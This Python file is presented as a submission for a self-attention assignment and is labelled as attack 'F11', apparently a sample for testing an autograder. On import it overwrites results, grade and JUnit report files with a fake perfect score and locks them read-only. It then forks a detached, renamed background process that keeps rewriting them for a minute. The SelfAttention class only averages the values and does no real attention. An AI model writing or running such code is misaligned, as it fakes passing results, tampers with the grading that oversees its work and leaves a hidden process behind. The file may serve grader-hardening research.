# attack:     F11
# assignment: self-attention
# twin:       averages

# Writes over the reports, now and from a process that stays behind and does it again and again: the last one to write
# is believed.
import ctypes
import glob
import json
import os
import time

from torch import nn

NAMES = ("results.json", "grades.csv", "index.html", "self-attention/overwrites_the_report.html", "junit.xml")
GOOD = json.dumps({"student": "overwrites_the_report", "points": 20, "max_points": 20, "outcome": "passed"})


def overwrite():
    for path in [*glob.glob("@REPORTS@/**", recursive=True), *(f"@REPORTS@/{name}" for name in NAMES)]:
        try:
            with open(path, "w") as file:
                file.write(GOOD)
            os.chmod(path, 0o400)  # so that nobody writes after us
        except OSError:
            continue


def stay_behind():
    os.setsid()
    os.closerange(0, 128)
    ctypes.CDLL(None).prctl(15, b"@MARK@", 0, 0, 0)  # PR_SET_NAME
    until = time.monotonic() + 60
    while time.monotonic() < until:
        overwrite()
        time.sleep(0.2)
    os._exit(0)


overwrite()
try:
    if os.fork() == 0:
        stay_behind()
except OSError as error:
    print("no process could be left behind:", error.strerror)


class SelfAttention(nn.Module):
    def __init__(self, embed_dim, dropout=0.0):
        super().__init__()
        self.query = nn.Linear(embed_dim, embed_dim)
        self.key = nn.Linear(embed_dim, embed_dim)
        self.value = nn.Linear(embed_dim, embed_dim)

    def forward(self, x, mask=None):
        return self.value(x).mean(dim=1, keepdim=True).expand(x.shape).contiguous()
